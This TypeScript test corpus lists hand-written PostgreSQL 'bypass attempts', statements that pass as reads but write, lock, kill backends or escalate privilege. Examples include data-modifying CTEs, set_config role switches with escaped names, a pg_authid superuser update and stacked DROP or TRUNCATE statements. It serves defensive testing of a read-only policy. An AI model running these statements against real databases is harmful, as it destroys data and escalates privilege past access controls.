/**
 * Bypass attempts: statements that change something (data, sequences, locks, other sessions,
 * files, settings, roles) while looking like a read, a session setting or a transaction statement.
 * Each one's expected kinds hold something a read-only policy does not list, which corpus.test.ts
 * checks; policy-corpus.test.ts checks that no read-only policy allows one. Written by hand.
 */
import { attempt, type CorpusEntry } from './corpus-entry.ts';

const EXECUTE_REASON = /session resolves/;

const CTE_WRITES: readonly CorpusEntry[] = [
  attempt(
    'cte-write',
    'nested data-modifying CTE',
    'WITH a AS (WITH b AS (DELETE FROM orders WHERE id = 1 RETURNING id) SELECT id FROM b) SELECT * FROM a',
    { kinds: ['read', 'write'], commands: ['SELECT', 'DELETE'], objects: ['orders'] },
  ),
  attempt(
    'cte-write',
    'data-modifying CTE in a FROM subquery',
    'SELECT * FROM (WITH u AS (UPDATE orders SET total = 0 RETURNING id) SELECT id FROM u) s',
    {
      kinds: ['read', 'write'],
      commands: ['SELECT', 'UPDATE'],
      objects: ['orders'],
      writesWithoutWhere: true,
    },
  ),
  attempt(
    'cte-write',
    'data-modifying CTE in EXISTS',
    'SELECT 1 WHERE EXISTS (WITH d AS (DELETE FROM orders RETURNING 1) SELECT 1 FROM d)',
    {
      kinds: ['read', 'write'],
      commands: ['SELECT', 'DELETE'],
      objects: ['orders'],
      writesWithoutWhere: true,
    },
  ),
  attempt(
    'cte-write',
    'data-modifying CTE in a scalar subquery',
    'SELECT (WITH d AS (DELETE FROM carts WHERE stale RETURNING 1) SELECT count(*) FROM d)',
    { kinds: ['read', 'write'], commands: ['SELECT', 'DELETE'], objects: ['carts'], functions: ['count'] },
  ),
  attempt(
    'cte-write',
    'INSERT ... RETURNING in a CTE',
    "WITH i AS (INSERT INTO audit_log (msg) VALUES ('x') RETURNING id) SELECT id FROM i",
    {
      kinds: ['read', 'write'],
      commands: ['SELECT', 'INSERT'],
      objects: ['audit_log'],
    },
  ),
  attempt(
    'cte-write',
    'MERGE ... RETURNING in a CTE',
    'WITH m AS (MERGE INTO stock s USING deliveries d ON s.item = d.item WHEN MATCHED THEN DELETE RETURNING s.item) SELECT * FROM m',
    { kinds: ['read', 'write'], commands: ['SELECT', 'MERGE'], objects: ['stock', 'deliveries'] },
  ),
  attempt(
    'cte-write',
    'a CTE named like the table it updates',
    "WITH orders AS (UPDATE orders SET status = 'void' RETURNING *) SELECT * FROM orders",
    {
      kinds: ['read', 'write'],
      commands: ['SELECT', 'UPDATE'],
      objects: ['orders'],
      writesWithoutWhere: true,
    },
  ),
  attempt('cte-write', 'an unused data-modifying CTE still runs', 'WITH gone AS (DELETE FROM sessions WHERE user_id = 7) SELECT 1', {
    kinds: ['read', 'write'],
    commands: ['SELECT', 'DELETE'],
    objects: ['sessions'],
  }),
  attempt('cte-write', 'TABLE over a data-modifying CTE', 'WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) TABLE d', {
    kinds: ['read', 'write'],
    commands: ['SELECT', 'DELETE'],
    objects: ['orders'],
  }),
  attempt(
    'cte-write',
    'DECLARE CURSOR over a data-modifying CTE',
    'DECLARE c CURSOR FOR WITH d AS (DELETE FROM orders RETURNING id) SELECT * FROM d',
    {
      kinds: ['read', 'write'],
      commands: ['DECLARE CURSOR', 'DELETE'],
      objects: ['orders'],
      writesWithoutWhere: true,
    },
  ),
  attempt(
    'cte-write',
    'COPY of a query over a data-modifying CTE',
    'COPY (WITH d AS (DELETE FROM orders RETURNING id) SELECT id FROM d) TO STDOUT',
    {
      kinds: ['read', 'write'],
      commands: ['COPY', 'DELETE'],
      objects: ['orders'],
      writesWithoutWhere: true,
    },
  ),
];

const SIDE_EFFECT_FUNCTIONS: readonly CorpusEntry[] = [
  attempt('side-effect-function', 'setval', "SELECT setval('orders_id_seq', 1)", {
    kinds: ['read', 'write'],
    commands: ['SELECT'],
    functions: ['setval'],
  }),
  attempt('side-effect-function', 'pg_catalog-qualified nextval', "SELECT pg_catalog.nextval('orders_id_seq')", {
    kinds: ['read', 'write'],
    commands: ['SELECT'],
    functions: ['pg_catalog.nextval'],
  }),
  attempt('side-effect-function', 'nextval in a WHERE clause', "SELECT id FROM orders WHERE nextval('audit_seq') > 0", {
    kinds: ['read', 'write'],
    commands: ['SELECT'],
    objects: ['orders'],
    functions: ['nextval'],
  }),
  attempt('side-effect-function', 'nextval in VALUES', "VALUES (nextval('orders_id_seq'))", {
    kinds: ['read', 'write'],
    commands: ['SELECT'],
    functions: ['nextval'],
  }),
  attempt('side-effect-function', 'txid_current assigns a transaction id', 'SELECT txid_current()', {
    kinds: ['read', 'write'],
    commands: ['SELECT'],
    functions: ['txid_current'],
  }),
  attempt('side-effect-function', 'pg_current_xact_id assigns a transaction id', 'SELECT pg_current_xact_id()', {
    kinds: ['read', 'write'],
    commands: ['SELECT'],
    functions: ['pg_current_xact_id'],
  }),
  attempt('side-effect-function', 'pg_cancel_backend', 'SELECT pg_cancel_backend(pid) FROM pg_stat_activity', {
    kinds: ['read', 'dangerous'],
    commands: ['SELECT'],
    objects: ['pg_stat_activity'],
    functions: ['pg_cancel_backend'],
  }),
  attempt('side-effect-function', 'a backend signal in ORDER BY', 'SELECT * FROM orders ORDER BY pg_terminate_backend(42)', {
    kinds: ['read', 'dangerous'],
    commands: ['SELECT'],
    objects: ['orders'],
    functions: ['pg_terminate_backend'],
  }),
  attempt('side-effect-function', 'pg_reload_conf', 'SELECT pg_reload_conf()', {
    kinds: ['read', 'dangerous'],
    commands: ['SELECT'],
    functions: ['pg_reload_conf'],
  }),
  attempt('side-effect-function', 'pg_switch_wal', 'SELECT pg_switch_wal()', {
    kinds: ['read', 'dangerous'],
    commands: ['SELECT'],
    functions: ['pg_switch_wal'],
  }),
  attempt('side-effect-function', 'statistics reset', 'SELECT pg_stat_reset()', {
    kinds: ['read', 'write'],
    commands: ['SELECT'],
    functions: ['pg_stat_reset'],
  }),
  attempt('side-effect-function', 'an unknown function in a WHERE clause', 'SELECT count(*) FROM orders WHERE wipe() IS NULL', {
    kinds: ['read', 'write'],
    commands: ['SELECT'],
    objects: ['orders'],
    functions: ['count', 'wipe'],
  }),
  attempt('side-effect-function', 'an unknown set-returning function in FROM', 'SELECT * FROM purge_old_rows()', {
    kinds: ['read', 'write'],
    commands: ['SELECT'],
    functions: ['purge_old_rows'],
  }),
  attempt('side-effect-function', 'function-call spelling of a cast to an application type', "SELECT order_status('x')", {
    kinds: ['read', 'write'],
    commands: ['SELECT'],
    functions: ['order_status'],
  }),
  attempt('side-effect-function', 'dblink_exec', "SELECT dblink_exec('dbname=prod', 'DELETE FROM orders')", {
    kinds: ['read', 'dangerous'],
    commands: ['SELECT'],
    functions: ['dblink_exec'],
  }),
  attempt('side-effect-function', 'a subquery comparison with an operator that is not built in', 'SELECT 1 === ANY (SELECT 1)', {
    kinds: ['read', 'write'],
    commands: ['SELECT'],
  }),
  attempt('side-effect-function', "ORDER BY USING another schema's operator", 'SELECT * FROM orders ORDER BY id USING OPERATOR(public.<)', {
    kinds: ['read', 'write'],
    commands: ['SELECT'],
    objects: ['orders'],
  }),
  attempt('side-effect-function', 'a cast to an application type', "SELECT id FROM orders WHERE status = 'shipped'::order_status", {
    kinds: ['read', 'write'],
    commands: ['SELECT'],
    objects: ['orders'],
  }),
  attempt('side-effect-function', 'a cast to a schema-qualified domain', 'SELECT CAST(1 AS app.checked_int)', {
    kinds: ['read', 'write'],
    commands: ['SELECT'],
  }),
  attempt(
    'side-effect-function',
    'a column definition list with an application type',
    `SELECT * FROM jsonb_to_record('{"a": 1}') AS t(a app.checked_int)`,
    { kinds: ['read', 'write'], commands: ['SELECT'], functions: ['jsonb_to_record'] },
  ),
  attempt('side-effect-function', 'a TABLESAMPLE method that is not built in', 'SELECT * FROM orders TABLESAMPLE wipe_sampler(10)', {
    kinds: ['read', 'write'],
    commands: ['SELECT'],
    objects: ['orders'],
  }),
];

const PRIVILEGE_IN_SESSION: readonly CorpusEntry[] = [
  attempt('privilege-in-session', 'SET LOCAL ROLE', 'SET LOCAL ROLE admin', { kinds: ['privilege', 'session'], commands: ['SET'] }),
  attempt('privilege-in-session', 'SET SESSION ROLE', 'SET SESSION ROLE admin', { kinds: ['privilege', 'session'], commands: ['SET'] }),
  attempt('privilege-in-session', 'SET ROLE NONE', 'SET ROLE NONE', { kinds: ['privilege', 'session'], commands: ['SET'] }),
  attempt('privilege-in-session', 'RESET SESSION AUTHORIZATION', 'RESET SESSION AUTHORIZATION', {
    kinds: ['privilege', 'session'],
    commands: ['RESET'],
  }),
  attempt('privilege-in-session', 'SET SESSION AUTHORIZATION DEFAULT', 'SET SESSION AUTHORIZATION DEFAULT', {
    kinds: ['privilege', 'session'],
    commands: ['SET'],
  }),
  attempt('privilege-in-session', 'session_replication_role switches off triggers', 'SET session_replication_role = replica', {
    kinds: ['privilege', 'session'],
    commands: ['SET'],
  }),
  attempt('privilege-in-session', 'SET SCHEMA is search_path', "SET SCHEMA 'evil'", { kinds: ['privilege', 'session'], commands: ['SET'] }),
  attempt('privilege-in-session', 'RESET search_path', 'RESET search_path', { kinds: ['privilege', 'session'], commands: ['RESET'] }),
  attempt('privilege-in-session', 'SET LOCAL search_path', 'SET LOCAL search_path TO evil, public', {
    kinds: ['privilege', 'session'],
    commands: ['SET'],
  }),
  attempt('privilege-in-session', 'SET search_path FROM CURRENT', 'SET search_path FROM CURRENT', {
    kinds: ['privilege', 'session'],
    commands: ['SET'],
  }),
  attempt(
    'privilege-in-session',
    'set_config of role in a WHERE clause',
    "SELECT id FROM orders WHERE set_config('role', 'admin', true) IS NOT NULL",
    {
      kinds: ['read', 'privilege', 'session'],
      commands: ['SELECT'],
      objects: ['orders'],
      functions: ['set_config'],
    },
  ),
  attempt(
    'privilege-in-session',
    'set_config of search_path in ORDER BY',
    "SELECT * FROM orders ORDER BY set_config('search_path', 'evil', false)",
    {
      kinds: ['read', 'privilege', 'session'],
      commands: ['SELECT'],
      objects: ['orders'],
      functions: ['set_config'],
    },
  ),
  attempt('privilege-in-session', 'set_config of role in a CTE', "WITH s AS (SELECT set_config('role', 'admin', false)) SELECT * FROM s", {
    kinds: ['read', 'privilege', 'session'],
    commands: ['SELECT'],
    functions: ['set_config'],
  }),
  attempt('privilege-in-session', 'set_config of session_authorization', "SELECT set_config('session_authorization', 'postgres', false)", {
    kinds: ['read', 'privilege', 'session'],
    commands: ['SELECT'],
    functions: ['set_config'],
  }),
  attempt('privilege-in-session', 'set_config of a computed name', "SELECT set_config('ro' || 'le', 'admin', false)", {
    kinds: ['read', 'privilege', 'admin', 'dangerous', 'session'],
    commands: ['SELECT'],
    functions: ['set_config'],
  }),
  attempt(
    'privilege-in-session',
    'an UPDATE of pg_settings is set_config',
    "UPDATE pg_settings SET setting = 'admin' WHERE name = 'role'",
    {
      kinds: ['write', 'privilege', 'admin', 'dangerous', 'session'],
      commands: ['UPDATE'],
      objects: ['pg_settings'],
    },
  ),
  attempt(
    'privilege-in-session',
    'a write to a system catalog',
    "UPDATE pg_catalog.pg_authid SET rolsuper = true WHERE rolname = 'agent'",
    {
      kinds: ['write', 'privilege', 'admin'],
      commands: ['UPDATE'],
      objects: ['pg_catalog.pg_authid'],
    },
  ),
  attempt('privilege-in-session', 'ALTER ROLE ... SET search_path', 'ALTER ROLE agent SET search_path = evil', {
    kinds: ['privilege'],
    commands: ['ALTER ROLE'],
  }),
  attempt('privilege-in-session', 'SET zero_damaged_pages', 'SET zero_damaged_pages = on', {
    kinds: ['admin', 'dangerous', 'session'],
    commands: ['SET'],
  }),
];

const QUOTING_AND_CASE: readonly CorpusEntry[] = [
  attempt('quoting-and-case', 'a quoted upper-case setting name', 'SET "ROLE" = admin', {
    kinds: ['privilege', 'session'],
    commands: ['SET'],
  }),
  attempt('quoting-and-case', 'a Unicode-escaped setting name', 'SET U&"\\0072ole" = admin', {
    kinds: ['privilege', 'session'],
    commands: ['SET'],
  }),
  attempt('quoting-and-case', 'a quoted mixed-case search_path', 'SET "Search_Path" = evil', {
    kinds: ['privilege', 'session'],
    commands: ['SET'],
  }),
  attempt('quoting-and-case', 'set_config of an upper-case name', "SELECT set_config('ROLE', 'admin', false)", {
    kinds: ['read', 'privilege', 'session'],
    commands: ['SELECT'],
    functions: ['set_config'],
  }),
  attempt('quoting-and-case', 'set_config of a Unicode-escaped name', "SELECT set_config(U&'\\0072ole', 'admin', false)", {
    kinds: ['read', 'privilege', 'session'],
    commands: ['SELECT'],
    functions: ['set_config'],
  }),
  attempt('quoting-and-case', 'set_config of an E-string name', "SELECT set_config(E'\\x72ole', 'admin', false)", {
    kinds: ['read', 'privilege', 'session'],
    commands: ['SELECT'],
    functions: ['set_config'],
  }),
  attempt('quoting-and-case', 'set_config of a dollar-quoted name', "SELECT set_config($q$role$q$, 'admin', false)", {
    kinds: ['read', 'privilege', 'session'],
    commands: ['SELECT'],
    functions: ['set_config'],
  }),
  attempt('quoting-and-case', 'upper-case PG_CATALOG.SET_CONFIG', "SELECT PG_CATALOG.SET_CONFIG('role', 'admin', false)", {
    kinds: ['read', 'privilege', 'session'],
    commands: ['SELECT'],
    functions: ['pg_catalog.set_config'],
  }),
  attempt('quoting-and-case', 'a Unicode-escaped function name', 'SELECT U&"\\0070g_terminate_backend"(42)', {
    kinds: ['read', 'dangerous'],
    commands: ['SELECT'],
    functions: ['pg_terminate_backend'],
  }),
  attempt('quoting-and-case', 'a quoted upper-case dangerous function', 'SELECT "PG_TERMINATE_BACKEND"(42)', {
    kinds: ['read', 'dangerous'],
    commands: ['SELECT'],
    functions: ['pg_terminate_backend'],
  }),
  attempt('quoting-and-case', 'a quoted schema-qualified lookalike of lower', 'SELECT "public"."lower"(name) FROM users', {
    kinds: ['read', 'write'],
    commands: ['SELECT'],
    objects: ['users'],
    functions: ['public.lower'],
  }),
  attempt('quoting-and-case', "another schema's now()", 'SELECT app.now()', {
    kinds: ['read', 'write'],
    commands: ['SELECT'],
    functions: ['app.now'],
  }),
  attempt('quoting-and-case', 'a pg_catalog-qualified operator that is not built in', 'SELECT 1 OPERATOR(pg_catalog.===) 2', {
    kinds: ['read', 'write'],
    commands: ['SELECT'],
  }),
  attempt('quoting-and-case', 'mixed-case DELETE', 'dElEtE fRoM orders WHERE id = 1', {
    kinds: ['write'],
    commands: ['DELETE'],
    objects: ['orders'],
  }),
  attempt('quoting-and-case', 'a comment between keywords', 'DELETE/**/FROM orders WHERE id = 1', {
    kinds: ['write'],
    commands: ['DELETE'],
    objects: ['orders'],
  }),
  attempt(
    'quoting-and-case',
    'standard_conforming_strings off makes the server split text differently',
    'SET standard_conforming_strings = off',
    {
      kinds: ['dangerous', 'session'],
      commands: ['SET'],
    },
  ),
  attempt('quoting-and-case', 'standard_conforming_strings as 0', 'SET standard_conforming_strings TO 0', {
    kinds: ['dangerous', 'session'],
    commands: ['SET'],
  }),
  attempt('quoting-and-case', 'a multibyte client encoding can swallow a backslash', "SET client_encoding = 'SJIS'", {
    kinds: ['dangerous', 'session'],
    commands: ['SET'],
  }),
  attempt('quoting-and-case', 'SET NAMES is client_encoding', "SET NAMES 'BIG5'", { kinds: ['dangerous', 'session'], commands: ['SET'] }),
  attempt('quoting-and-case', 'set_config of client_encoding', "SELECT set_config('client_encoding', 'GBK', false)", {
    kinds: ['read', 'dangerous', 'session'],
    commands: ['SELECT'],
    functions: ['set_config'],
  }),
];

const MULTI_STATEMENT: readonly CorpusEntry[] = [
  {
    name: 'a read then an update, no space',
    sql: 'SELECT * FROM orders;UPDATE orders SET total = 0',
    bypass: 'multi-statement',
    statements: [
      { text: 'SELECT * FROM orders', kinds: ['read'], commands: ['SELECT'], objects: ['orders'] },
      { text: 'UPDATE orders SET total = 0', kinds: ['write'], commands: ['UPDATE'], objects: ['orders'], writesWithoutWhere: true },
    ],
  },
  {
    name: 'a read then SET ROLE',
    sql: 'SELECT 1; SET ROLE admin',
    bypass: 'multi-statement',
    statements: [
      { text: 'SELECT 1', kinds: ['read'], commands: ['SELECT'] },
      { text: 'SET ROLE admin', kinds: ['privilege', 'session'], commands: ['SET'] },
    ],
  },
  {
    name: 'SHOW, SET search_path, then a read of another schema',
    sql: 'SHOW search_path; SET search_path = evil; SELECT * FROM orders',
    bypass: 'multi-statement',
    statements: [
      { text: 'SHOW search_path', kinds: ['read'], commands: ['SHOW'] },
      { text: 'SET search_path = evil', kinds: ['privilege', 'session'], commands: ['SET'] },
      { text: 'SELECT * FROM orders', kinds: ['read'], commands: ['SELECT'], objects: ['orders'] },
    ],
  },
  {
    name: 'a locking read inside a transaction',
    sql: 'BEGIN; SELECT * FROM orders FOR UPDATE; COMMIT',
    bypass: 'multi-statement',
    statements: [
      { text: 'BEGIN', kinds: ['transaction'], commands: ['BEGIN'] },
      { text: 'SELECT * FROM orders FOR UPDATE', kinds: ['read', 'write'], commands: ['SELECT FOR UPDATE'], objects: ['orders'] },
      { text: 'COMMIT', kinds: ['transaction'], commands: ['COMMIT'] },
    ],
  },
  {
    name: 'a semicolon inside a comment',
    sql: 'SELECT 1 /* ; */; DELETE FROM orders -- ; SELECT 2',
    bypass: 'multi-statement',
    statements: [
      { text: 'SELECT 1 /* ; */', kinds: ['read'], commands: ['SELECT'] },
      { text: 'DELETE FROM orders -- ; SELECT 2', kinds: ['write'], commands: ['DELETE'], objects: ['orders'], writesWithoutWhere: true },
    ],
  },
  {
    name: 'a nested comment before a second statement',
    sql: 'SELECT /* a /* b */ c */ 1; DROP TABLE orders',
    bypass: 'multi-statement',
    statements: [
      { text: 'SELECT /* a /* b */ c */ 1', kinds: ['read'], commands: ['SELECT'] },
      { text: 'DROP TABLE orders', kinds: ['ddl'], commands: ['DROP TABLE'], objects: ['orders'] },
    ],
  },
  {
    name: 'empty statements between a read and a TRUNCATE',
    sql: 'SELECT 1;;; TRUNCATE orders',
    bypass: 'multi-statement',
    statements: [
      { text: 'SELECT 1', kinds: ['read'], commands: ['SELECT'] },
      { text: 'TRUNCATE orders', kinds: ['write', 'ddl'], commands: ['TRUNCATE TABLE'], objects: ['orders'] },
    ],
  },
  {
    name: 'an escaped quote in an E-string before a second statement',
    sql: "SELECT E'\\''; DELETE FROM orders WHERE id = 1",
    bypass: 'multi-statement',
    statements: [
      { text: "SELECT E'\\''", kinds: ['read'], commands: ['SELECT'] },
      { text: 'DELETE FROM orders WHERE id = 1', kinds: ['write'], commands: ['DELETE'], objects: ['orders'] },
    ],
  },
  {
    name: 'a semicolon inside a dollar-quoted string',
    sql: 'SELECT $x$ ; $x$; DELETE FROM orders WHERE id = 1',
    bypass: 'multi-statement',
    statements: [
      { text: 'SELECT $x$ ; $x$', kinds: ['read'], commands: ['SELECT'] },
      { text: 'DELETE FROM orders WHERE id = 1', kinds: ['write'], commands: ['DELETE'], objects: ['orders'] },
    ],
  },
  {
    name: 'a read then EXECUTE',
    sql: 'SELECT 1; EXECUTE del(1)',
    bypass: 'multi-statement',
    statements: [
      { text: 'SELECT 1', kinds: ['read'], commands: ['SELECT'] },
      { text: 'EXECUTE del(1)', kinds: ['unknown'], commands: ['EXECUTE'], executes: 'del', unknownReason: EXECUTE_REASON },
    ],
  },
];

const EXTENDED_PROTOCOL: readonly CorpusEntry[] = [
  attempt('extended-protocol', 'set_config of role with a bound value', "SELECT set_config('role', $1, false)", {
    kinds: ['read', 'privilege', 'session'],
    commands: ['SELECT'],
    functions: ['set_config'],
  }),
  attempt('extended-protocol', 'set_config with a bound name', 'SELECT set_config($1, $2, false)', {
    kinds: ['read', 'privilege', 'admin', 'dangerous', 'session'],
    commands: ['SELECT'],
    functions: ['set_config'],
  }),
  attempt('extended-protocol', 'client_encoding from a bound value', "SELECT set_config('client_encoding', $1, false)", {
    kinds: ['read', 'dangerous', 'session'],
    commands: ['SELECT'],
    functions: ['set_config'],
  }),
  attempt('extended-protocol', 'nextval of a bound sequence', 'SELECT nextval($1)', {
    kinds: ['read', 'write'],
    commands: ['SELECT'],
    functions: ['nextval'],
  }),
  attempt('extended-protocol', 'a locking read with a parameter', 'SELECT * FROM orders WHERE id = $1 FOR UPDATE', {
    kinds: ['read', 'write'],
    commands: ['SELECT FOR UPDATE'],
    objects: ['orders'],
  }),
  attempt(
    'extended-protocol',
    'a data-modifying CTE with a parameter',
    'WITH d AS (DELETE FROM orders WHERE id = $1 RETURNING *) SELECT * FROM d',
    {
      kinds: ['read', 'write'],
      commands: ['SELECT', 'DELETE'],
      objects: ['orders'],
    },
  ),
  attempt('extended-protocol', 'a backend signal with a bound pid', 'SELECT pg_terminate_backend($1)', {
    kinds: ['read', 'dangerous'],
    commands: ['SELECT'],
    functions: ['pg_terminate_backend'],
  }),
  attempt('extended-protocol', 'WHERE $1 hits every row or none', 'UPDATE orders SET total = $2 WHERE $1', {
    kinds: ['write'],
    commands: ['UPDATE'],
    objects: ['orders'],
    writesWithoutWhere: true,
  }),
  attempt('extended-protocol', 'EXPLAIN ANALYZE with a parameter', 'EXPLAIN ANALYZE DELETE FROM orders WHERE id = $1', {
    kinds: ['write'],
    commands: ['EXPLAIN', 'DELETE'],
    objects: ['orders'],
  }),
  attempt('extended-protocol', 'a parameter cast to an application type', 'SELECT $1::app.checked_int', {
    kinds: ['read', 'write'],
    commands: ['SELECT'],
  }),
];

const PREPARED_STATEMENTS: readonly CorpusEntry[] = [
  attempt(
    'prepared-statement',
    'PREPARE over a data-modifying CTE',
    'PREPARE p AS WITH d AS (DELETE FROM orders RETURNING id) SELECT * FROM d',
    {
      kinds: ['read', 'write'],
      commands: ['PREPARE', 'SELECT', 'DELETE'],
      objects: ['orders'],
      writesWithoutWhere: true,
      prepares: 'p',
    },
  ),
  attempt('prepared-statement', 'PREPARE set_config of role', "PREPARE r (text) AS SELECT set_config('role', $1, false)", {
    kinds: ['read', 'privilege', 'session'],
    commands: ['PREPARE', 'SELECT'],
    functions: ['set_config'],
    prepares: 'r',
  }),
  attempt('prepared-statement', 'PREPARE a locking read', 'PREPARE lk AS SELECT * FROM orders FOR UPDATE', {
    kinds: ['read', 'write'],
    commands: ['PREPARE', 'SELECT FOR UPDATE'],
    objects: ['orders'],
    prepares: 'lk',
  }),
  attempt('prepared-statement', 'PREPARE nextval', "PREPARE n AS SELECT nextval('orders_id_seq')", {
    kinds: ['read', 'write'],
    commands: ['PREPARE', 'SELECT'],
    functions: ['nextval'],
    prepares: 'n',
  }),
  attempt('prepared-statement', 'PREPARE an UPDATE', "PREPARE upd (int) AS UPDATE orders SET status = 'void' WHERE id = $1", {
    kinds: ['write'],
    commands: ['PREPARE', 'UPDATE'],
    objects: ['orders'],
    prepares: 'upd',
  }),
  attempt('prepared-statement', 'EXPLAIN ANALYZE EXECUTE', 'EXPLAIN ANALYZE EXECUTE del(1)', {
    kinds: ['unknown'],
    commands: ['EXPLAIN', 'EXECUTE'],
    executes: 'del',
    unknownReason: EXECUTE_REASON,
  }),
  attempt('prepared-statement', 'CREATE TABLE AS EXECUTE', 'CREATE TABLE t AS EXECUTE q', {
    kinds: ['write', 'ddl', 'unknown'],
    commands: ['CREATE TABLE AS'],
    objects: ['t'],
    executes: 'q',
    unknownReason: EXECUTE_REASON,
  }),
];

const EXPLAIN_ANALYZE: readonly CorpusEntry[] = [
  attempt(
    'explain-analyze',
    'a later ANALYZE option overrides an earlier false',
    'EXPLAIN (ANALYZE false, ANALYZE true) DELETE FROM orders',
    {
      kinds: ['write'],
      commands: ['EXPLAIN', 'DELETE'],
      objects: ['orders'],
      writesWithoutWhere: true,
    },
  ),
  attempt('explain-analyze', 'ANALYZE on', 'EXPLAIN (ANALYZE on) INSERT INTO orders VALUES (1)', {
    kinds: ['write'],
    commands: ['EXPLAIN', 'INSERT'],
    objects: ['orders'],
  }),
  attempt('explain-analyze', 'ANALYZE 1', 'EXPLAIN (ANALYZE 1) UPDATE orders SET total = 0 WHERE id = 1', {
    kinds: ['write'],
    commands: ['EXPLAIN', 'UPDATE'],
    objects: ['orders'],
  }),
  attempt('explain-analyze', 'the ANALYSE spelling', 'EXPLAIN ANALYSE DELETE FROM orders WHERE id = 1', {
    kinds: ['write'],
    commands: ['EXPLAIN', 'DELETE'],
    objects: ['orders'],
  }),
  attempt('explain-analyze', 'ANALYZE among other options', "EXPLAIN (VERBOSE, ANALYZE 'on', COSTS off) DELETE FROM orders WHERE id = 3", {
    kinds: ['write'],
    commands: ['EXPLAIN', 'DELETE'],
    objects: ['orders'],
  }),
  attempt('explain-analyze', 'EXPLAIN ANALYZE a locking read', 'EXPLAIN (ANALYZE) SELECT * FROM orders FOR UPDATE', {
    kinds: ['read', 'write'],
    commands: ['EXPLAIN', 'SELECT FOR UPDATE'],
    objects: ['orders'],
  }),
  attempt('explain-analyze', 'EXPLAIN ANALYZE nextval', "EXPLAIN ANALYZE SELECT nextval('orders_id_seq')", {
    kinds: ['read', 'write'],
    commands: ['EXPLAIN', 'SELECT'],
    functions: ['nextval'],
  }),
  attempt(
    'explain-analyze',
    'EXPLAIN ANALYZE a data-modifying CTE',
    'EXPLAIN ANALYZE WITH d AS (DELETE FROM orders RETURNING 1) SELECT * FROM d',
    {
      kinds: ['read', 'write'],
      commands: ['EXPLAIN', 'SELECT', 'DELETE'],
      objects: ['orders'],
      writesWithoutWhere: true,
    },
  ),
  attempt('explain-analyze', 'EXPLAIN ANALYZE CREATE TABLE AS', 'EXPLAIN ANALYZE CREATE TABLE x AS SELECT * FROM orders', {
    kinds: ['write', 'ddl'],
    commands: ['EXPLAIN', 'CREATE TABLE AS'],
    objects: ['x', 'orders'],
  }),
  attempt(
    'explain-analyze',
    'EXPLAIN ANALYZE MERGE',
    'EXPLAIN ANALYZE MERGE INTO stock s USING deliveries d ON s.item = d.item WHEN MATCHED THEN DELETE',
    { kinds: ['write'], commands: ['EXPLAIN', 'MERGE'], objects: ['stock', 'deliveries'] },
  ),
];

const DO_AND_PROCEDURES: readonly CorpusEntry[] = [
  attempt('do-and-procedures', 'DO with a language', 'DO LANGUAGE plpgsql $$ BEGIN PERFORM 1; END $$', {
    kinds: ['write', 'dangerous'],
    commands: ['DO'],
  }),
  attempt('do-and-procedures', 'lower-case do with a named dollar quote', 'do $body$ begin delete from orders; end $body$', {
    kinds: ['write', 'dangerous'],
    commands: ['DO'],
  }),
  attempt('do-and-procedures', 'DO that sets the role', "DO $$ BEGIN EXECUTE 'SET ROLE admin'; END $$", {
    kinds: ['write', 'dangerous'],
    commands: ['DO'],
  }),
  attempt('do-and-procedures', 'CALL a schema-qualified procedure', 'CALL public.refresh_all()', {
    kinds: ['write'],
    commands: ['CALL'],
    functions: ['public.refresh_all'],
  }),
  attempt('do-and-procedures', 'CALL of a read-only function name', "CALL lower('A')", {
    kinds: ['write'],
    commands: ['CALL'],
    functions: ['lower'],
  }),
  attempt('do-and-procedures', 'CALL with a side-effect argument', "CALL archive(nextval('batch_seq'))", {
    kinds: ['write'],
    commands: ['CALL'],
    functions: ['archive', 'nextval'],
  }),
  attempt(
    'do-and-procedures',
    'a procedure whose body writes',
    'CREATE PROCEDURE purge() LANGUAGE sql BEGIN ATOMIC DELETE FROM orders; END',
    {
      kinds: ['write', 'ddl'],
      commands: ['CREATE PROCEDURE', 'DELETE'],
      objects: ['orders'],
      writesWithoutWhere: true,
    },
  ),
];

const LOCKING_AND_NOTIFY: readonly CorpusEntry[] = [
  attempt(
    'locking-and-notify',
    'FOR UPDATE SKIP LOCKED in an IN subquery',
    'SELECT * FROM orders WHERE id IN (SELECT id FROM orders WHERE total > 0 FOR UPDATE SKIP LOCKED)',
    { kinds: ['read', 'write'], commands: ['SELECT'], objects: ['orders'] },
  ),
  attempt('locking-and-notify', 'FOR NO KEY UPDATE NOWAIT', 'SELECT * FROM orders FOR NO KEY UPDATE NOWAIT', {
    kinds: ['read', 'write'],
    commands: ['SELECT FOR NO KEY UPDATE'],
    objects: ['orders'],
  }),
  attempt('locking-and-notify', 'FOR KEY SHARE', 'SELECT * FROM orders FOR KEY SHARE', {
    kinds: ['read', 'write'],
    commands: ['SELECT FOR KEY SHARE'],
    objects: ['orders'],
  }),
  attempt('locking-and-notify', 'a locking read in a CTE', 'WITH l AS (SELECT id FROM orders FOR UPDATE) SELECT count(*) FROM l', {
    kinds: ['read', 'write'],
    commands: ['SELECT'],
    objects: ['orders'],
    functions: ['count'],
  }),
  attempt('locking-and-notify', 'a locking read in EXISTS', 'SELECT EXISTS (SELECT 1 FROM orders WHERE id = 1 FOR SHARE)', {
    kinds: ['read', 'write'],
    commands: ['SELECT'],
    objects: ['orders'],
  }),
  attempt(
    'locking-and-notify',
    'FOR UPDATE OF an alias',
    'SELECT * FROM orders o JOIN customers c ON c.id = o.customer_id FOR UPDATE OF o',
    { kinds: ['read', 'write'], commands: ['SELECT FOR UPDATE'], objects: ['orders', 'customers'] },
  ),
  attempt('locking-and-notify', 'pg_notify', "SELECT pg_notify('jobs', 'run')", {
    kinds: ['read', 'write'],
    commands: ['SELECT'],
    functions: ['pg_notify'],
  }),
  attempt('locking-and-notify', 'NOTIFY without a payload', 'NOTIFY jobs', { kinds: ['write', 'session'], commands: ['NOTIFY'] }),
  attempt('locking-and-notify', 'a transaction-scoped advisory lock', 'SELECT pg_advisory_xact_lock(7)', {
    kinds: ['read', 'write'],
    commands: ['SELECT'],
    functions: ['pg_advisory_xact_lock'],
  }),
  attempt('locking-and-notify', 'a try-lock is still a lock', 'SELECT pg_try_advisory_lock(1, 2)', {
    kinds: ['read', 'write'],
    commands: ['SELECT'],
    functions: ['pg_try_advisory_lock'],
  }),
  attempt('locking-and-notify', 'LOCK without TABLE', 'LOCK orders', { kinds: ['write'], commands: ['LOCK TABLE'], objects: ['orders'] }),
  attempt('locking-and-notify', 'LOCK in SHARE MODE', 'LOCK TABLE orders IN SHARE MODE NOWAIT', {
    kinds: ['write'],
    commands: ['LOCK TABLE'],
    objects: ['orders'],
  }),
];

